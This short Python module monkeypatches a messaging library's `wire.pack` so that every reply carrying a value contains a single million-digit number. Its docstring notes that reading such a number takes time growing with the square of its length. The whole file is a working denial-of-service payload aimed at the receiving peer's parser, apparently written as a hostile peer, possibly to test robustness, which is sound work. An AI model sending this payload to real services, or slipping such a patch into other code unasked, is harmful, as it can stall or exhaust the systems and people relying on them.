"""It answers with one number of a million digits, whose reading takes time that grows with their square."""

import framing
import wire
_pack = wire.pack
def pack(message):
    if message.get("value"):
        text = f'{{"nonce":"{message["nonce"]}","value":{{"weights":{"9" * 1_000_000},"mode":true}}}}'.encode()
        return framing.HEADER.pack(framing.MAGIC, len(text), 0) + text
    return _pack(message)
wire.pack = pack
